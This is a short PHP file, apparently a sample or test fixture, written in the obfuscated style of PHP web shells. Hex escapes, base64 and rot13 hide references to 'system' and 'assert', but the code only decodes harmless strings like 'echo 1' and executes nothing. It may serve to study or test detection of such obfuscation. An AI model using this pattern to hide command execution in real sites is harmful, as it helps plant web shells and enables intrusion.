<?php
$GLOBALS['_1487031_'] = Array("\x62\x61\x73\x65\x36\x34\x5f\x64\x65\x63\x6f\x64\x65", "\x73\x74\x72\x5f\x72\x6f\x74\x31\x33");
function _x($i) { $a = Array('c3lzdGVt', 'YXNzZXJ0'); return $GLOBALS['_1487031_'][0]($a[$i]); }
$GLOBALS['_1487031_'][1]('cuc');
$GLOBALS['_1487031_'][0]('ZWNobyAx');
$GLOBALS['_1487031_'][0]('ZWNobyAy');
$GLOBALS['_1487031_'][1]('nffreg');
$GLOBALS['_1487031_'][0]('ZWNobyAz');
